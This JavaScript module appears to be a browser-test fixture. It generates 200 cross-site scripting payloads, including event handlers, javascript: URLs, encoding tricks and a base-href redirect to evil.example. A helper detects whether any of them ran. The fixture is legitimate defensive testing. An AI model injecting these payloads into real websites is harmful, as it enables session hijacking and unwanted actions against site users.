/** Texts that would run as a script if a page treated them as markup, and ways to detect that one did. */

/** The effects of each: it reports to the page that watches, and it is visible in its title. */
const DEEDS = ['alert(1)', 'top.document.title="taken"', 'window.taken=true', 'fetch("/api/auth/logout",{method:"POST"})'];

/** @type {((deed: string) => string)[]} */
const FORMS = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<img src=x onerror='${deed}'>`,
  (deed) => `<svg onload='${deed}'>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin='${deed}' attributeName=x dur=1s>`,
  (deed) => `<body onload='${deed}'>`,
  (deed) => `<iframe src='javascript:${deed}'></iframe>`,
  (deed) => `<iframe srcdoc='<script>${deed}</script>'></iframe>`,
  (deed) => `<a href='javascript:${deed}' autofocus onfocus='${deed}'>click</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `<form action='javascript:${deed}'><button autofocus onfocus='${deed}'>`,
  (deed) => `<input autofocus onfocus='${deed}'>`,
  (deed) => `<details open ontoggle='${deed}'>`,
  (deed) => `<video><source onerror='${deed}'></video>`,
  (deed) => `<audio src=x onerror='${deed}'>`,
  (deed) => `<object data='data:text/html,<script>${deed}</script>'></object>`,
  (deed) => `<embed src='data:text/html,<script>${deed}</script>'>`,
  (deed) => `<meta http-equiv=refresh content='0;url=javascript:${deed}'>`,
  (deed) => `<base href='//evil.example/'><script src=x></script><!-- ${deed} -->`,
  (deed) => `<link rel=stylesheet href='data:text/css,*{background:url("javascript:${deed}")}'>`,
  (deed) => `<style>@import 'javascript:${deed}';</style>`,
  (deed) => `<math><mtext><table><mglyph><style><img src=x onerror='${deed}'>`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<noscript><p title='</noscript><img src=x onerror=${deed}>'>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `' onmouseover='${deed}' x='`,
  (deed) => `"autofocus onfocus="${deed}" x="`,
  (deed) => `</title></textarea></style></script><script>${deed}</script>`,
  (deed) => `<!--><img src=x onerror='${deed}'>-->`,
  (deed) => `<![CDATA[><script>${deed}</script>]]>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<SCRIPT\n>${deed}</SCRIPT\t>`,
  (deed) => `<img/src=x/onerror='${deed}'>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;img src=x onerror='${deed}'&#62;`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `\${${deed}} {{constructor.constructor('${deed}')()}} <%= ${deed} %>`,
  (deed) => `__proto__[${deed}]`,
  (deed) => `\u202e<script>${deed}</script>\u202c`,
  (deed) => `\ufeff<script>${deed}</script>`,
  (deed) => `＜script＞${deed}＜/script＞`,
  (deed) => `[x](javascript:${deed}) ![x](x"onerror="${deed})`,
  (deed) => `data:text/html;base64,${btoa(`<script>${deed}</script>`)}`,
  (deed) => `https://example.org/"onclick="${deed}`,
  (deed) => `<x contenteditable onbeforeinput='${deed}' onfocus='${deed}' tabindex=1 id=x>#x`,
  (deed) => `<button popovertarget=x>x</button><div popover id=x onbeforetoggle='${deed}'>`,
  (deed) => `<div style="animation-name:x" onanimationstart='${deed}'><style>@keyframes x{}</style>`,
  (deed) => `<marquee onstart='${deed}'>`,
  (deed) => `<isindex type=image src=1 onerror='${deed}'>`,
  (deed) => `<p id=messages><p id=workspace><form name=body><input name=firstChild> ${deed}`,
];

/** 200 of them, all different. */
export const HOSTILE = FORMS.flatMap((form) => DEEDS.map((deed) => form(deed)));

/** The number of them that fit a name. */
export const HOSTILE_NAMES = FORMS.map((form) => form('alert(1)'))
  .filter((name) => name.length <= 64 && !/[\n\t\u202c\u202e]/.test(name));

/** Makes a page record each script that runs; returns the records. */
export async function watch(page) {
  const dialogs = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  return async () => [...dialogs, ...await page.evaluate(() => [...(window.taken ? ['taken'] : []), ...(document.title === 'taken' ? ['title'] : [])])];
}
